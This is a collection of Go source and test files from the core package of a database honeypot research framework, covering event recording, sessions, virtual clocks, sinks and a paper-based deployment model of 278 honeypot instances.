// point used by both the live Farm and the simulator, so every session in
// every mode shares the same lifecycle.
func ServeConn(ctx context.Context, h Handler, conn net.Conn, s *Session) (err error) {
	defer func() {
		if r := recover(); r != nil {
			err = fmt.Errorf("honeypot panic: %v", r)
		}
		s.Close()
		conn.Close()
	}()
	return h.Handle(ctx, conn, s)
}

// Shutdown closes all listeners, waits for in-flight sessions, and —
// when the sink buffers asynchronously (implements Flusher) — flushes
// it so every event the farm produced reaches the final consumers.
// After Shutdown, Listen returns ErrFarmClosed.
func (f *Farm) Shutdown() {
	f.mu.Lock()
	f.shutdown = true
	for _, ln := range f.listeners {
		ln.Close()
	}
	f.listeners = nil
	f.mu.Unlock()
	f.wg.Wait()
	if fl, ok := f.sink.(Flusher); ok {
		fl.Flush()
	}
}

func remoteAddrPort(conn net.Conn) netip.AddrPort {
	if ap, err := netip.ParseAddrPort(conn.RemoteAddr().String()); err == nil {
		return ap
	}
	// net.Pipe and exotic transports have opaque addresses; fall back to
	// the unspecified address so sessions still carry a valid source.
	return netip.AddrPortFrom(netip.IPv4Unspecified(), 0)
}
