package core

import (
	"fmt"
	"time"
)

// DurationBuckets is the number of DurationHist buckets. Bucket i counts
// observations at most DurationBucketBound(i); observations above the
// last bound count toward Count (the implicit +Inf bucket) but no
// finite bucket.
const DurationBuckets = 20

// DurationBucketBound returns the inclusive upper bound of bucket i:
// 1µs << i, so the buckets span 1µs to ~524ms in powers of two — wide
// enough for a WAL fsync on the low end and a WAN ack round trip on the
// high end.
func DurationBucketBound(i int) time.Duration {
	return time.Microsecond << uint(i)
}

// DurationHist is a fixed-bucket latency histogram. It is a plain value
// with no internal locking: producers that already serialise on a mutex
// (the WAL's append path, the relay forwarder's ack path) call Observe
// under that lock, and Stats snapshots copy the whole struct. This keeps
// the hot-path cost to one bucket increment — no allocation, no atomics
// beyond what the owner's lock already pays.
type DurationHist struct {
	Buckets [DurationBuckets]uint64 // cumulative-by-copy at snapshot; bucket i counts d <= bound(i)
	Count   uint64
	Sum     time.Duration
	Max     time.Duration
}

// Observe records one duration. Negative durations clamp to zero.
func (h *DurationHist) Observe(d time.Duration) {
	if d < 0 {
		d = 0
	}
	h.Count++
	h.Sum += d
	if d > h.Max {
		h.Max = d
	}
	for i := 0; i < DurationBuckets; i++ {
		if d <= DurationBucketBound(i) {
			h.Buckets[i]++
			return
		}
	}
	// Above the last finite bound: counted in Count only (+Inf).
}

// Mean is the mean observed duration (0 when empty).
func (h DurationHist) Mean() time.Duration {
	if h.Count == 0 {
		return 0
	}
	return h.Sum / time.Duration(h.Count)
}

// Quantile returns an upper bound for the q-quantile (0 < q <= 1) from
// the bucket counts: the bound of the first bucket whose cumulative
// count reaches q*Count. Observations past the last bucket report Max.
func (h DurationHist) Quantile(q float64) time.Duration {
	if h.Count == 0 {
		return 0
	}
	target := uint64(q * float64(h.Count))
	if target < 1 {
		target = 1
	}
	var cum uint64
	for i := 0; i < DurationBuckets; i++ {
		cum += h.Buckets[i]
		if cum >= target {
			return DurationBucketBound(i)
		}
	}
	return h.Max
}

// String renders a compact summary for operational log lines.
func (h DurationHist) String() string {
	return fmt.Sprintf("n=%d mean=%s p99<=%s max=%s",
		h.Count, h.Mean().Round(time.Microsecond),
		h.Quantile(0.99).Round(time.Microsecond), h.Max.Round(time.Microsecond))
}
