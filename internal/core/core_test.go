package core

import (
	"context"
	"errors"
	"net"
	"net/netip"
	"sync/atomic"
	"testing"
	"time"
)

func TestDefaultDeploymentMatchesPaperTable4(t *testing.T) {
	d := DefaultDeployment()
	if got := len(d.Instances); got != 278 {
		t.Fatalf("total instances = %d, want 278", got)
	}
	if got := d.LowCount(); got != 220 {
		t.Fatalf("low-interaction instances = %d, want 220", got)
	}
	if got := len(d.ByGroup(GroupMulti)); got != 200 {
		t.Fatalf("multi group = %d, want 200", got)
	}
	if got := len(d.ByGroup(GroupSingle)); got != 20 {
		t.Fatalf("single group = %d, want 20", got)
	}
	if got := len(d.ByGroup(GroupMedium)); got != 50 {
		t.Fatalf("medium group = %d, want 50", got)
	}
	if got := len(d.ByGroup(GroupHigh)); got != 8 {
		t.Fatalf("high group = %d, want 8", got)
	}
	if got := len(d.ByDBMS(Redis)); got != 75 { // 50 multi + 5 single + 20 medium
		t.Fatalf("redis instances = %d, want 75", got)
	}
	if got := len(d.ByDBMS(Postgres)); got != 75 {
		t.Fatalf("postgres instances = %d, want 75", got)
	}
	if got := len(d.ByDBMS(MongoDB)); got != 8 {
		t.Fatalf("mongodb instances = %d, want 8", got)
	}
	// Every MongoDB instance sits in a distinct region.
	regions := map[string]bool{}
	for _, in := range d.ByDBMS(MongoDB) {
		if regions[in.Region] {
			t.Fatalf("duplicate region %q", in.Region)
		}
		regions[in.Region] = true
	}
	// IDs must be unique across the deployment.
	ids := map[string]bool{}
	for _, in := range d.Instances {
		if ids[in.ID()] {
			t.Fatalf("duplicate instance ID %q", in.ID())
		}
		ids[in.ID()] = true
	}
}

func TestSessionEventFlow(t *testing.T) {
	sink := &MemSink{}
	clock := NewVirtualClock(ExperimentStart)
	src := netip.MustParseAddrPort("198.51.100.1:5555")
	info := Info{DBMS: Redis, Level: Medium}
	s := NewSession(info, src, clock, sink)
	s.Connect()
	clock.Advance(3 * time.Second)
	s.Login("sa", "123", false)
	s.Command("SET", "SET x y")
	s.Close()
	s.Close() // idempotent

	ev := sink.Events()
	if len(ev) != 4 {
		t.Fatalf("events = %d, want 4", len(ev))
	}
	kinds := []EventKind{EventConnect, EventLogin, EventCommand, EventClose}
	for i, k := range kinds {
		if ev[i].Kind != k {
			t.Fatalf("event %d kind = %v, want %v", i, ev[i].Kind, k)
		}
		if ev[i].Src != src || ev[i].Honeypot.DBMS != Redis {
			t.Fatalf("event %d identity = %+v", i, ev[i])
		}
	}
	if ev[0].Time.Equal(ev[1].Time) {
		t.Fatal("live session did not track the clock")
	}
	if ev[1].User != "sa" || ev[1].Pass != "123" {
		t.Fatalf("login fields = %q/%q", ev[1].User, ev[1].Pass)
	}
}

func TestFixedSessionPinsTime(t *testing.T) {
	sink := &MemSink{}
	clock := NewVirtualClock(ExperimentStart)
	s := NewFixedSession(Info{DBMS: MySQL}, DefaultTestSrc(), clock, sink)
	s.Connect()
	clock.Advance(8 * time.Hour)
	s.Command("X", "")
	s.Close()
	ev := sink.Events()
	for _, e := range ev {
		if !e.Time.Equal(ExperimentStart) {
			t.Fatalf("event time = %v, want pinned %v", e.Time, ExperimentStart)
		}
	}
}

// DefaultTestSrc returns an arbitrary source address for session tests.
func DefaultTestSrc() netip.AddrPort {
	return netip.MustParseAddrPort("192.0.2.1:1000")
}

func TestRawCaptureBounded(t *testing.T) {
	sink := &MemSink{}
	s := NewSession(Info{}, DefaultTestSrc(), FixedClock(ExperimentStart), sink)
	big := make([]byte, 3*MaxRawCapture)
	for i := range big {
		big[i] = 'A'
	}
	s.Command("BIG", string(big))
	ev := sink.Events()
	if len(ev[0].Raw) != MaxRawCapture {
		t.Fatalf("raw capture = %d bytes, want %d", len(ev[0].Raw), MaxRawCapture)
	}
}

func TestEventDayHour(t *testing.T) {
	e := Event{Time: ExperimentStart.Add(49*time.Hour + 30*time.Minute)}
	if d := e.Day(ExperimentStart); d != 2 {
		t.Fatalf("Day = %d", d)
	}
	if h := e.Hour(ExperimentStart); h != 49 {
		t.Fatalf("Hour = %d", h)
	}
}

func TestServeConnRecoversPanic(t *testing.T) {
	sink := &MemSink{}
	s := NewSession(Info{DBMS: MySQL}, DefaultTestSrc(), RealClock{}, sink)
	srv, cli := net.Pipe()
	defer cli.Close()
	h := HandlerFunc(func(ctx context.Context, conn net.Conn, s *Session) error {
		s.Connect()
		panic("parser bug")
	})
	err := ServeConn(context.Background(), h, srv, s)
	if err == nil {
		t.Fatal("panic not surfaced as error")
	}
	// The session must still have been closed.
	var sawClose bool
	for _, e := range sink.Events() {
		if e.Kind == EventClose {
			sawClose = true
		}
	}
	if !sawClose {
		t.Fatal("no close event after panic")
	}
}

func TestFarmServesRealTCP(t *testing.T) {
	sink := &MemSink{}
	farm := NewFarm(RealClock{}, sink, FarmOptions{
		SessionTimeout: 2 * time.Second,
		Logf:           func(string, ...any) {},
	})
	defer farm.Shutdown()

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()

	echo := HandlerFunc(func(ctx context.Context, conn net.Conn, s *Session) error {
		s.Connect()
		buf := make([]byte, 16)
		n, err := conn.Read(buf)
		if err != nil {
			return nil
		}
		s.Command("ECHO", string(buf[:n]))
		_, err = conn.Write(buf[:n])
		return err
	})
	hp := &Honeypot{Info: Info{DBMS: Redis, Level: Medium}, Handler: echo}
	addr, err := farm.Listen(ctx, "127.0.0.1:0", hp)
	if err != nil {
		t.Fatal(err)
	}

	conn, err := net.Dial("tcp", addr.String())
	if err != nil {
		t.Fatal(err)
	}
	if _, err := conn.Write([]byte("hello")); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 16)
	n, err := conn.Read(buf)
	if err != nil || string(buf[:n]) != "hello" {
		t.Fatalf("echo = %q, %v", buf[:n], err)
	}
	conn.Close()

	deadline := time.Now().Add(2 * time.Second)
	for {
		events := sink.Events()
		var connects, closes int
		for _, e := range events {
			switch e.Kind {
			case EventConnect:
				connects++
			case EventClose:
				closes++
			}
		}
		if connects == 1 && closes == 1 {
			// The farm recorded the genuine remote address.
			if !events[0].Src.Addr().IsLoopback() {
				t.Fatalf("src = %v, want loopback", events[0].Src)
			}
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("incomplete session events: %d connects, %d closes", connects, closes)
		}
		time.Sleep(10 * time.Millisecond)
	}
}

func TestFarmListenAfterShutdown(t *testing.T) {
	farm := NewFarm(RealClock{}, &MemSink{}, FarmOptions{Logf: func(string, ...any) {}})
	hp := &Honeypot{Info: Info{DBMS: Redis}, Handler: HandlerFunc(func(ctx context.Context, conn net.Conn, s *Session) error {
		return nil
	})}
	ctx := context.Background()
	if _, err := farm.Listen(ctx, "127.0.0.1:0", hp); err != nil {
		t.Fatal(err)
	}
	farm.Shutdown()
	// A listener registered now would never be closed; Listen must
	// refuse instead of silently leaking an accept loop.
	if _, err := farm.Listen(ctx, "127.0.0.1:0", hp); !errors.Is(err, ErrFarmClosed) {
		t.Fatalf("Listen after Shutdown = %v, want ErrFarmClosed", err)
	}
}

// flushSink records whether Flush was called after the last Record.
type flushSink struct {
	MemSink
	flushed atomic.Bool
}

func (f *flushSink) Flush() { f.flushed.Store(true) }

func TestFarmShutdownFlushesBufferedSink(t *testing.T) {
	sink := &flushSink{}
	farm := NewFarm(RealClock{}, sink, FarmOptions{Logf: func(string, ...any) {}})
	hp := &Honeypot{Info: Info{DBMS: Redis}, Handler: HandlerFunc(func(ctx context.Context, conn net.Conn, s *Session) error {
		s.Connect()
		return nil
	})}
	addr, err := farm.Listen(context.Background(), "127.0.0.1:0", hp)
	if err != nil {
		t.Fatal(err)
	}
	conn, err := net.Dial("tcp", addr.String())
	if err != nil {
		t.Fatal(err)
	}
	conn.Close()
	farm.Shutdown()
	if !sink.flushed.Load() {
		t.Fatal("Shutdown did not flush the buffering sink")
	}
}

func TestLevelString(t *testing.T) {
	if Low.String() != "low" || Medium.String() != "medium" || High.String() != "high" {
		t.Fatal("level names wrong")
	}
	if Level(9).String() == "" {
		t.Fatal("unknown level empty")
	}
}

func TestMultiSinkFanout(t *testing.T) {
	a, b := &MemSink{}, &MemSink{}
	ms := MultiSink{a, b}
	ms.Record(Event{Kind: EventConnect})
	if a.Len() != 1 || b.Len() != 1 {
		t.Fatal("fanout failed")
	}
	a.Reset()
	if a.Len() != 0 {
		t.Fatal("reset failed")
	}
}

func TestDefaultPortUnknown(t *testing.T) {
	if DefaultPort("oracle") != 0 {
		t.Fatal("unknown DBMS port")
	}
	if DefaultPort(Elastic) != 9200 {
		t.Fatal("elastic port")
	}
}

func TestExtendedDeployment(t *testing.T) {
	d := ExtendedDeployment()
	if got := len(d.Instances); got != 288 {
		t.Fatalf("extended instances = %d, want 288", got)
	}
	if got := len(d.ByDBMS(MariaDB)); got != 5 {
		t.Fatalf("mariadb instances = %d", got)
	}
	if got := len(d.ByDBMS(CouchDB)); got != 5 {
		t.Fatalf("couchdb instances = %d", got)
	}
	if DefaultPort(CouchDB) != 5984 || DefaultPort(MariaDB) != 3306 {
		t.Fatal("extension ports")
	}
	ids := map[string]bool{}
	for _, in := range d.Instances {
		if ids[in.ID()] {
			t.Fatalf("duplicate instance ID %q", in.ID())
		}
		ids[in.ID()] = true
	}
}

func TestClockSetAndKindNames(t *testing.T) {
	c := NewVirtualClock(ExperimentStart)
	c.Set(ExperimentStart.Add(time.Hour))
	if !c.Now().Equal(ExperimentStart.Add(time.Hour)) {
		t.Fatal("Set did not move the clock")
	}
	names := map[EventKind]string{
		EventConnect: "connect", EventLogin: "login",
		EventCommand: "command", EventClose: "close",
	}
	for k, want := range names {
		if k.String() != want {
			t.Fatalf("kind %d = %q", k, k.String())
		}
	}
	if EventKind(99).String() != "unknown" {
		t.Fatal("unknown kind name")
	}
}

func TestSinkFuncAndEventCount(t *testing.T) {
	var n int
	sink := SinkFunc(func(Event) { n++ })
	s := NewSession(Info{DBMS: Redis}, DefaultTestSrc(), FixedClock(ExperimentStart), sink)
	s.Connect()
	s.Command("X", "")
	s.Close()
	if n != 3 || s.EventCount() != 3 {
		t.Fatalf("events = %d / %d", n, s.EventCount())
	}
	NopSink.Record(Event{}) // must not panic
}
