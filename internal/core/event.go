package core

import (
	"net/netip"
	"sync"
	"time"
)

// EventKind enumerates what a client did.
type EventKind int

// Event kinds. Connect and Close bracket every session; Login carries
// captured credentials; Command carries a normalised DBMS action.
const (
	EventConnect EventKind = iota
	EventLogin
	EventCommand
	EventClose
)

// String returns the log name of the kind.
func (k EventKind) String() string {
	switch k {
	case EventConnect:
		return "connect"
	case EventLogin:
		return "login"
	case EventCommand:
		return "command"
	case EventClose:
		return "close"
	}
	return "unknown"
}

// Event is the unit record emitted by honeypots. Command holds a
// normalised action (e.g. "CONFIG SET dir", "COPY FROM PROGRAM") used by
// the classifier and the TF clustering; Raw preserves (a bounded excerpt
// of) the original payload for forensics.
type Event struct {
	Time     time.Time
	Src      netip.AddrPort
	Honeypot Info
	Kind     EventKind
	User     string
	Pass     string
	OK       bool // login accepted (e.g. open PostgreSQL config)
	Command  string
	Raw      string
}

// Day returns the zero-based experiment day of the event relative to start.
func (e Event) Day(start time.Time) int {
	return int(e.Time.Sub(start) / (24 * time.Hour))
}

// Hour returns the zero-based experiment hour of the event relative to
// start.
func (e Event) Hour(start time.Time) int {
	return int(e.Time.Sub(start) / time.Hour)
}

// Sink consumes events. Implementations must be safe for concurrent use:
// honeypot sessions run on independent goroutines.
type Sink interface {
	Record(Event)
}

// Flusher is implemented by sinks that buffer events asynchronously
// (e.g. the event bus). Holders of such a sink call Flush at quiesce
// points — the Farm does so during Shutdown — to guarantee everything
// recorded so far has reached the final consumers.
type Flusher interface {
	Flush()
}

// SinkFunc adapts a function to the Sink interface.
type SinkFunc func(Event)

// Record implements Sink.
func (f SinkFunc) Record(e Event) { f(e) }

// MultiSink fans events out to several sinks in order.
type MultiSink []Sink

// Record implements Sink.
func (m MultiSink) Record(e Event) {
	for _, s := range m {
		s.Record(e)
	}
}

// NopSink discards all events.
var NopSink Sink = SinkFunc(func(Event) {})

// MemSink accumulates events in memory, guarded by a mutex. It is intended
// for tests and small live deployments; large runs should stream into an
// evstore.Store instead.
type MemSink struct {
	mu     sync.Mutex
	events []Event
}

// Record implements Sink.
func (m *MemSink) Record(e Event) {
	m.mu.Lock()
	m.events = append(m.events, e)
	m.mu.Unlock()
}

// Events returns a copy of the recorded events.
func (m *MemSink) Events() []Event {
	m.mu.Lock()
	defer m.mu.Unlock()
	out := make([]Event, len(m.events))
	copy(out, m.events)
	return out
}

// Len reports the number of recorded events.
func (m *MemSink) Len() int {
	m.mu.Lock()
	defer m.mu.Unlock()
	return len(m.events)
}

// Reset discards all recorded events.
func (m *MemSink) Reset() {
	m.mu.Lock()
	m.events = nil
	m.mu.Unlock()
}
