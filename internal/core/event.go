package core

import (
	"net/netip"
	"time"
)

// EventKind enumerates what a client did.
type EventKind int

// Event kinds. Connect and Close bracket every session; Login carries
// captured credentials; Command carries a normalised DBMS action.
const (
	EventConnect EventKind = iota
	EventLogin
	EventCommand
	EventClose
)

// String returns the log name of the kind.
func (k EventKind) String() string {
	switch k {
	case EventConnect:
		return "connect"
	case EventLogin:
		return "login"
	case EventCommand:
		return "command"
	case EventClose:
		return "close"
	}
	return "unknown"
}

// Event is the unit record emitted by honeypots. Command holds a
// normalised action (e.g. "CONFIG SET dir", "COPY FROM PROGRAM") used by
// the classifier and the TF clustering; Raw preserves (a bounded excerpt
// of) the original payload for forensics.
type Event struct {
	Time     time.Time
	Src      netip.AddrPort
	Honeypot Info
	Kind     EventKind
	User     string
	Pass     string
	OK       bool // login accepted (e.g. open PostgreSQL config)
	Command  string
	Raw      string
}

// Day returns the zero-based experiment day of the event relative to start.
func (e Event) Day(start time.Time) int {
	return int(e.Time.Sub(start) / (24 * time.Hour))
}

// Hour returns the zero-based experiment hour of the event relative to
// start.
func (e Event) Hour(start time.Time) int {
	return int(e.Time.Sub(start) / time.Hour)
}
