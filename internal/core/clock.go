package core

import (
	"sync"
	"time"
)

// Clock abstracts time so the 20-day experiment can run on a virtual
// timeline while live deployments use wall-clock time.
type Clock interface {
	Now() time.Time
}

// RealClock reads the system clock.
type RealClock struct{}

// Now implements Clock.
func (RealClock) Now() time.Time { return time.Now() }

// ExperimentStart is the start of the paper's collection window
// (March 22, 2024, UTC). Virtual runs default to this origin so event
// timestamps line up with the paper's figures.
var ExperimentStart = time.Date(2024, time.March, 22, 0, 0, 0, 0, time.UTC)

// ExperimentDays is the length of the paper's collection window.
const ExperimentDays = 20

// VirtualClock is a settable clock. Sessions driven by the simulator set
// it to the scheduled session time; it is safe for concurrent use.
type VirtualClock struct {
	mu  sync.RWMutex
	now time.Time
}

// NewVirtualClock returns a VirtualClock starting at t.
func NewVirtualClock(t time.Time) *VirtualClock {
	return &VirtualClock{now: t}
}

// Now implements Clock.
func (c *VirtualClock) Now() time.Time {
	c.mu.RLock()
	defer c.mu.RUnlock()
	return c.now
}

// Set moves the clock to t.
func (c *VirtualClock) Set(t time.Time) {
	c.mu.Lock()
	c.now = t
	c.mu.Unlock()
}

// Advance moves the clock forward by d and returns the new time.
func (c *VirtualClock) Advance(d time.Duration) time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.now = c.now.Add(d)
	return c.now
}

// FixedClock always reports the same instant. Handy in unit tests.
type FixedClock time.Time

// Now implements Clock.
func (c FixedClock) Now() time.Time { return time.Time(c) }
