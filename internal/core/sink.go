package core

import (
	"net/netip"
	"sync"
)

// This file is the event-consumer contract: everything downstream of a
// honeypot session implements one of these interfaces. The transport
// (internal/bus) and the store (internal/evstore) both build on the same
// three seams — per-event delivery (Sink), amortised batch delivery
// (BatchSink), and quiesce-point draining (Flusher).

// Sink consumes events. Implementations must be safe for concurrent use:
// honeypot sessions run on independent goroutines.
type Sink interface {
	Record(Event)
}

// BatchSink is a Sink that can accept a whole delivery batch in one
// call, amortising per-event locking. The event bus prefers this path:
// one lock acquisition and one flush per batch instead of per event.
// Implementations must not retain the batch slice after returning; the
// caller reuses it.
type BatchSink interface {
	Sink
	RecordBatch(events []Event) error
}

// TaggedBatchSink is a BatchSink that can journal an opaque provenance
// annotation alongside each batch (e.g. the relay's (farm, epoch,
// sequence) source tag into a WAL-backed store). Deliverers that know
// where a batch came from prefer this path; the tag must be persisted
// with the batch and surfaced again on replay, so crash recovery can
// rebuild delivery state — not just data.
type TaggedBatchSink interface {
	BatchSink
	RecordBatchTagged(events []Event, tag []byte) error
}

// Flusher is implemented by sinks that buffer events asynchronously
// (e.g. the event bus). Holders of such a sink call Flush at quiesce
// points — the Farm does so during Shutdown — to guarantee everything
// recorded so far has reached the final consumers.
type Flusher interface {
	Flush()
}

// ShardOf maps a source address onto one of n shards with an FNV-1a
// hash over the 16 address bytes. It is the partitioning contract shared
// by the event bus and the sharded event store: both split work by
// source IP with this exact function, so when their shard counts match,
// every batch a bus worker delivers lands wholly inside one store shard
// and batch commits never contend across shards. Hashing the address
// (not the port) keeps all events from one attacker in one partition,
// preserving per-attacker event order end to end.
func ShardOf(addr netip.Addr, n int) int {
	if n <= 1 {
		return 0
	}
	a := addr.As16()
	h := uint64(14695981039346656037)
	for _, c := range a {
		h ^= uint64(c)
		h *= 1099511628211
	}
	return int(h % uint64(n))
}

// SinkFunc adapts a function to the Sink interface.
type SinkFunc func(Event)

// Record implements Sink.
func (f SinkFunc) Record(e Event) { f(e) }

// MultiSink fans events out to several sinks in order.
type MultiSink []Sink

// Record implements Sink.
func (m MultiSink) Record(e Event) {
	for _, s := range m {
		s.Record(e)
	}
}

// NopSink discards all events.
var NopSink Sink = SinkFunc(func(Event) {})

// MemSink accumulates events in memory, guarded by a mutex. It is intended
// for tests and small live deployments; large runs should stream into an
// evstore.Store instead.
type MemSink struct {
	mu     sync.Mutex
	events []Event
}

// Record implements Sink.
func (m *MemSink) Record(e Event) {
	m.mu.Lock()
	m.events = append(m.events, e)
	m.mu.Unlock()
}

// Events returns a copy of the recorded events.
func (m *MemSink) Events() []Event {
	m.mu.Lock()
	defer m.mu.Unlock()
	out := make([]Event, len(m.events))
	copy(out, m.events)
	return out
}

// Len reports the number of recorded events.
func (m *MemSink) Len() int {
	m.mu.Lock()
	defer m.mu.Unlock()
	return len(m.events)
}

// Reset discards all recorded events.
func (m *MemSink) Reset() {
	m.mu.Lock()
	m.events = nil
	m.mu.Unlock()
}
