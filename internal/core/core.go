// Package core defines the honeypot framework: the interaction-level and
// deployment model from the paper's Table 4, the event schema shared by all
// protocol honeypots, sessions, clocks, and the Farm that serves honeypots
// on real listeners.
//
// Protocol packages (internal/mysql, internal/redis, ...) implement the
// Handler interface; everything downstream (the pipeline, classifier,
// clustering and experiments) consumes the Event stream produced here.
package core

import (
	"fmt"
	"net/netip"
)

// Level is the honeypot interaction level.
type Level int

// Interaction levels, following the taxonomy in the paper's Section 2.
const (
	Low Level = iota
	Medium
	High
)

// String returns the canonical lower-case level name.
func (l Level) String() string {
	switch l {
	case Low:
		return "low"
	case Medium:
		return "medium"
	case High:
		return "high"
	}
	return fmt.Sprintf("level(%d)", int(l))
}

// DBMS identifiers. These double as log-file prefixes and analysis keys.
// MariaDB and CouchDB are the extension honeypots the paper's limitations
// section names as future coverage.
const (
	MySQL    = "mysql"
	MSSQL    = "mssql"
	Postgres = "postgres"
	Redis    = "redis"
	Elastic  = "elastic"
	MongoDB  = "mongodb"
	MariaDB  = "mariadb"
	CouchDB  = "couchdb"
)

// DefaultPort returns the IANA/default port for a DBMS name, or 0 if
// unknown.
func DefaultPort(dbms string) int {
	switch dbms {
	case MySQL:
		return 3306
	case MSSQL:
		return 1433
	case Postgres:
		return 5432
	case Redis:
		return 6379
	case Elastic:
		return 9200
	case MongoDB:
		return 27017
	case MariaDB:
		return 3306
	case CouchDB:
		return 5984
	}
	return 0
}

// Deployment groups. Low-interaction honeypots come in two flavours: VMs
// exposing all four services behind one IP ("multi") and a control set
// exposing one service per IP ("single"), mirroring the paper's Section 4.2.
const (
	GroupMulti  = "multi"
	GroupSingle = "single"
	GroupMedium = "medium"
	GroupHigh   = "high"
)

// Config labels for medium/high-interaction variants.
const (
	ConfigDefault  = "default"
	ConfigFakeData = "fakedata"
	ConfigNoLogin  = "nologin"
)

// Info identifies a single honeypot instance within a deployment. It is
// embedded in every event so analyses can slice by DBMS, level, config,
// deployment group, VM and region.
type Info struct {
	DBMS     string // one of the DBMS constants
	Level    Level
	Port     int
	Instance int    // index within (DBMS, Config)
	Config   string // ConfigDefault, ConfigFakeData, ConfigNoLogin
	Group    string // GroupMulti, GroupSingle, GroupMedium, GroupHigh
	VM       string // identifier of the hosting VM / IP
	Region   string // geographic region label (high-interaction tier)
}

// ID returns a stable unique identifier for the instance.
func (i Info) ID() string {
	return fmt.Sprintf("%s/%s/%s-%02d", i.DBMS, i.Group, i.Config, i.Instance)
}

// Deployment is a concrete set of honeypot instances.
type Deployment struct {
	Instances []Info
}

// ByDBMS returns the instances for one DBMS.
func (d *Deployment) ByDBMS(dbms string) []Info {
	var out []Info
	for _, in := range d.Instances {
		if in.DBMS == dbms {
			out = append(out, in)
		}
	}
	return out
}

// ByGroup returns the instances in one deployment group.
func (d *Deployment) ByGroup(group string) []Info {
	var out []Info
	for _, in := range d.Instances {
		if in.Group == group {
			out = append(out, in)
		}
	}
	return out
}

// LowCount reports the number of low-interaction instances.
func (d *Deployment) LowCount() int {
	n := 0
	for _, in := range d.Instances {
		if in.Level == Low {
			n++
		}
	}
	return n
}

// MongoRegions lists the eight cloud regions hosting the high-interaction
// MongoDB honeypots (paper Section 4.2).
var MongoRegions = []string{
	"AU", "CA", "DE", "IN", "NL", "SG", "UK", "US",
}

// DefaultDeployment reproduces the paper's Table 4 exactly: 278 honeypots,
// 220 low-interaction (50 multi-service VMs x 4 DBMS + 5 single-service VMs
// per DBMS), 20 medium Redis (half with fake data), 20 medium PostgreSQL
// (half with login disabled), 10 medium Elasticsearch, and 8 high
// MongoDB instances spread over eight regions.
func DefaultDeployment() *Deployment {
	d := &Deployment{}
	add := func(in Info) { d.Instances = append(d.Instances, in) }

	lowDBMS := []string{MySQL, Postgres, Redis, MSSQL}
	for vm := 0; vm < 50; vm++ {
		for _, dbms := range lowDBMS {
			add(Info{
				DBMS: dbms, Level: Low, Port: DefaultPort(dbms),
				Instance: vm, Config: ConfigDefault, Group: GroupMulti,
				VM: fmt.Sprintf("lo-multi-%02d", vm),
			})
		}
	}
	for _, dbms := range lowDBMS {
		for i := 0; i < 5; i++ {
			add(Info{
				DBMS: dbms, Level: Low, Port: DefaultPort(dbms),
				Instance: i, Config: ConfigDefault, Group: GroupSingle,
				VM: fmt.Sprintf("lo-single-%s-%d", dbms, i),
			})
		}
	}
	for i := 0; i < 10; i++ {
		add(Info{
			DBMS: Redis, Level: Medium, Port: DefaultPort(Redis),
			Instance: i, Config: ConfigDefault, Group: GroupMedium,
			VM: fmt.Sprintf("med-redis-%02d", i),
		})
	}
	for i := 0; i < 10; i++ {
		add(Info{
			DBMS: Redis, Level: Medium, Port: DefaultPort(Redis),
			Instance: i, Config: ConfigFakeData, Group: GroupMedium,
			VM: fmt.Sprintf("med-redis-fd-%02d", i),
		})
	}
	for i := 0; i < 10; i++ {
		add(Info{
			DBMS: Postgres, Level: Medium, Port: DefaultPort(Postgres),
			Instance: i, Config: ConfigDefault, Group: GroupMedium,
			VM: fmt.Sprintf("med-psql-%02d", i),
		})
	}
	for i := 0; i < 10; i++ {
		add(Info{
			DBMS: Postgres, Level: Medium, Port: DefaultPort(Postgres),
			Instance: i, Config: ConfigNoLogin, Group: GroupMedium,
			VM: fmt.Sprintf("med-psql-nl-%02d", i),
		})
	}
	for i := 0; i < 10; i++ {
		add(Info{
			DBMS: Elastic, Level: Medium, Port: DefaultPort(Elastic),
			Instance: i, Config: ConfigDefault, Group: GroupMedium,
			VM: fmt.Sprintf("med-elastic-%02d", i),
		})
	}
	for i, region := range MongoRegions {
		add(Info{
			DBMS: MongoDB, Level: High, Port: DefaultPort(MongoDB),
			Instance: i, Config: ConfigFakeData, Group: GroupHigh,
			VM: fmt.Sprintf("hi-mongo-%s", region), Region: region,
		})
	}
	return d
}

// ExtendedDeployment is DefaultDeployment plus the coverage the paper's
// limitations section proposes: low-interaction MariaDB and
// medium-interaction CouchDB honeypots for the lesser-studied platforms.
func ExtendedDeployment() *Deployment {
	d := DefaultDeployment()
	for i := 0; i < 5; i++ {
		d.Instances = append(d.Instances, Info{
			DBMS: MariaDB, Level: Low, Port: DefaultPort(MariaDB),
			Instance: i, Config: ConfigDefault, Group: GroupSingle,
			VM: fmt.Sprintf("lo-single-mariadb-%d", i),
		})
	}
	for i := 0; i < 5; i++ {
		d.Instances = append(d.Instances, Info{
			DBMS: CouchDB, Level: Medium, Port: DefaultPort(CouchDB),
			Instance: i, Config: ConfigFakeData, Group: GroupMedium,
			VM: fmt.Sprintf("med-couchdb-%02d", i),
		})
	}
	return d
}

// AddrPort is a convenience alias used throughout the event schema.
type AddrPort = netip.AddrPort
