package core

import (
	"net/netip"
	"sync/atomic"
)

// MaxRawCapture bounds the number of raw payload bytes preserved per event.
// Attackers ship multi-kilobyte scripts; we keep enough for forensics and
// clustering without letting a hostile client balloon memory.
const MaxRawCapture = 2048

// Session tracks one client connection to one honeypot instance and turns
// protocol-level observations into events. Protocol handlers call the
// Connect/Login/Command/Close methods; the session stamps events with the
// clock and honeypot identity and forwards them to the sink.
type Session struct {
	Info  Info
	Src   netip.AddrPort
	clock Clock
	sink  Sink

	// FixedTime, when true, stamps every event with the session's start
	// time rather than re-reading the clock. The simulator uses this so a
	// session scheduled at T emits all events at T even while other
	// goroutines move the shared virtual clock.
	fixed   bool
	started atomic.Int64 // unix nanos of the session start

	nEvents atomic.Int64
	closed  atomic.Bool
}

// NewSession creates a session for a client at src talking to instance
// info. clock and sink must be non-nil.
func NewSession(info Info, src netip.AddrPort, clock Clock, sink Sink) *Session {
	s := &Session{Info: info, Src: src, clock: clock, sink: sink}
	s.started.Store(clock.Now().UnixNano())
	return s
}

// NewFixedSession creates a session whose events are all stamped with the
// clock's time at creation. Used for virtual-time simulation where many
// sessions at different virtual times run concurrently.
func NewFixedSession(info Info, src netip.AddrPort, clock Clock, sink Sink) *Session {
	s := NewSession(info, src, clock, sink)
	s.fixed = true
	return s
}

func (s *Session) now() int64 {
	if s.fixed {
		return s.started.Load()
	}
	return s.clock.Now().UnixNano()
}

func (s *Session) emit(e Event) {
	e.Src = s.Src
